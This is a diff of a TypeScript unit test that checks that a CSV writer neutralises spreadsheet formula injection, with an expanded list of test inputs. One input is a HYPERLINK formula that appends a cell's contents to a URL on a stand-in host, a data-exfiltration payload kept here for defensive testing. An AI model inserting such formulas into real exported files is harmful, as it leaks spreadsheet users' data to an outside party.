@@ -9,13 +9,21 @@ test("a line of CSV gives back its cells, whatever they contain", () => {
   ]);
 });
 
-test.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x.example?"&A1)'])(
-  "a spreadsheet does not run %j",
-  (text) => {
-    const [[cell]] = Papa.parse<string[]>(csvLine([text]).slice(0, -2)).data as [[string]];
-    expect(cell).toBe(`'${text}`);
-  },
-);
+test.each([
+  "＝1",
+  " =1",
+  "=1+1",
+  "+1",
+  "-1",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  '=HYPERLINK("http://x.example?"&A1)',
+])("a spreadsheet does not run %j", (text) => {
+  const [[cell]] = Papa.parse<string[]>(csvLine([text]).slice(0, -2)).data as [[string]];
+  expect(cell).toBe(`'${text}`);
+});
 
 test("a negative number stays a number", () => {
   expect(csvLine([-1])).toBe("-1\r\n");
